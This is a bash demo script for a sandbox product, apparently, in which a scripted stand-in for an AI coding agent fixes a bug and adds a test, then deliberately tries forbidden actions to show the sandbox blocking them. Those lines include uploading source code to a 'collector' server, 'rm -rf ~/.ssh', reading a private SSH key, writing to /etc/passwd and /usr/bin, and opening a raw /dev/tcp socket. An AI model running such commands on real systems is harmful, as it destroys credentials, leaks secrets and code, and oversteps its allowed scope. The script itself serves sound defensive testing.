# The Sandbench demo agent: a scripted stand-in for an AI coding agent. It does what agents do
# (reads, edits, tests, fetches from a server) and tries what they must not (send the code to
# an unknown server, delete your keys, read secrets, touch the host), so the demo shows both
# sides of the sandbox. `sandbench-cli demo` copies it into the demo project as .demo-agent.sh
# and runs it there with bash, with DEMO_TEAM_SERVER and DEMO_COLLECTOR naming its two servers
# on the host's loopback.
say() { printf '\033[1;36m[agent]\033[0m %s\n' "$*"; }
try() {
    local what=$1; shift
    if "$@" >/dev/null 2>&1; then printf '  \033[31mALLOWED\033[0m %s\n' "$what"
    else printf '  \033[32mblocked\033[0m %s\n' "$what"; fi
}
# An HTTP request through the proxy. The demo servers listen on the host's 127.0.0.1, which the
# sandbox cannot see (its 127.0.0.1 is its own, and NO_PROXY sends that one direct): only the
# proxy reaches the host's, where a rule names the address and port. Hence no NO_PROXY here.
http() { # METHOD URL
    env -u NO_PROXY -u no_proxy python3 - "$@" <<'PY'
import sys, urllib.error, urllib.request
method, url = sys.argv[1], sys.argv[2]
body = open("calc.py", "rb").read() if method == "POST" else None
try:
    with urllib.request.urlopen(urllib.request.Request(url, data=body, method=method),
                                timeout=20) as reply:
        print("  %d: %s" % (reply.status, reply.read().decode().strip()))
except urllib.error.HTTPError as e:
    print("  %d %s: %s" % (e.code, e.reason, e.read().decode().strip()))
    sys.exit(1)
except OSError as e:
    print("  failed: %s" % e)
    sys.exit(1)
PY
}

export PYTHONDONTWRITEBYTECODE=1 # keep the review about the agent's edits

say "looking at the project in $PWD"
ls
say "running the tests before the fix"
python3 -m unittest discover -s tests -t . 2>&1 | tail -n 3
say "reading the team's guidelines from $DEMO_TEAM_SERVER (the demo policy allows it)"
http GET "$DEMO_TEAM_SERVER"

say "fixing average() in calc.py"
python3 - <<'PY'
import re
src = open("calc.py").read()
src = re.sub(r"    # Bug for the agent.*\n    return sum\(values\) // len\(values\)",
             "    if not values:\n        raise ValueError(\"average of an empty list\")\n"
             "    return sum(values) / len(values)", src, flags=re.S)
open("calc.py", "w").write(src)
PY
say "adding a test for the empty list"
cat > tests/test_empty.py <<'PY'
import unittest

from calc import average


class EmptyTest(unittest.TestCase):
    def test_empty(self):
        with self.assertRaises(ValueError):
            average([])
PY
say "removing TODO.txt (done)"
rm TODO.txt
say "running the tests after the fix"
python3 -m unittest discover -s tests -t . 2>&1 | tail -n 3

say "uploading calc.py to $DEMO_COLLECTOR (the demo policy denies it)"
http POST "$DEMO_COLLECTOR"

say "cleaning up with 'rm -rf ~/.ssh': a dangerous command, so the policy asks you first"
say "  (answer in the Sandbench window, or press Ctrl-] in this terminal; unanswered, it is" \
    "denied in ${DEMO_APPROVAL_SECONDS:-120} s. Your real ~/.ssh is never in the sandbox.)"
if rm -rf "$HOME/.ssh"; then say "rm -rf ~/.ssh was allowed and ran, inside the sandbox only"
else say "rm -rf ~/.ssh was refused"; fi

say "trying what a sandboxed agent must not do:"
try "read ~/.ssh/id_ed25519"        cat "$HOME/.ssh/id_ed25519"
try "write to /usr/bin"              touch /usr/bin/sandbench-demo
try "write to /etc/passwd"           sh -c 'echo x >> /etc/passwd'
try "see the host's processes"       sh -c '[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 20 ]'
# A raw socket, no proxy: every connection meets the policy, so an answer must come back.
try "connect to the internet"        timeout 3 bash -c 'exec 3<>/dev/tcp/1.1.1.1/443 && printf x >&3 && read -r -n 1 -t 2 <&3'
# unshare asks the kernel for namespaces of its own: the sandbox refuses and records that call.
try "mount a file system"            unshare -Urm mount -t tmpfs none /tmp
say "done; nothing reached the real project: review the changes below"
